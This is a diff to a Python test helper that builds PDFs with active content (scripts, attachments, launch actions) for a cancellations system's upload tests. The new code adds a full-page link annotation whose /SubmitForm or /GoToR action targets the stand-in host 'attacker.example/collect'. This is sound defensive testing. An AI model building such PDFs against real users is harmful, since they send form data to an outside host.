@@ -5,7 +5,13 @@ from datetime import date, datetime
 import pytest
 from PIL import Image, ImageDraw
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from cancellations.models import CancellationRequest
 from cancellations.rules import NOUMEA
@@ -22,11 +28,36 @@ def submit(customer: Customer, reference: str, **fields: object) -> Cancellation
 
 
 def scanned_pdf(
-    *, javascript: str = "", attachment: bytes = b"", open_action: bool = False
+    *,
+    javascript: str = "",
+    attachment: bytes = b"",
+    open_action: bool = False,
+    link_action: str = "",
+    pages: int = 1,
 ) -> bytes:
-    """A one-page PDF as a scanner or "print to PDF" makes it, optionally made active."""
+    """A PDF as a scanner or "print to PDF" makes it, optionally made active: a script,
+    an attached file, a /Launch on opening, or a link whose action is `link_action`
+    (/SubmitForm, /GoToR …)."""
     writer = PdfWriter()
-    writer.add_blank_page(595, 842)
+    for _ in range(pages):
+        writer.add_blank_page(595, 842)
+    if link_action:
+        action = DictionaryObject(
+            {
+                NameObject("/S"): NameObject(link_action),
+                NameObject("/F"): TextStringObject("https://attacker.example/collect"),
+            }
+        )
+        link = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
+                                                  NumberObject(595), NumberObject(842)]),
+                NameObject("/A"): action,
+            }
+        )  # fmt: skip
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
     if javascript:  # a document-level script, run when the file is opened
         action = DictionaryObject(
             {
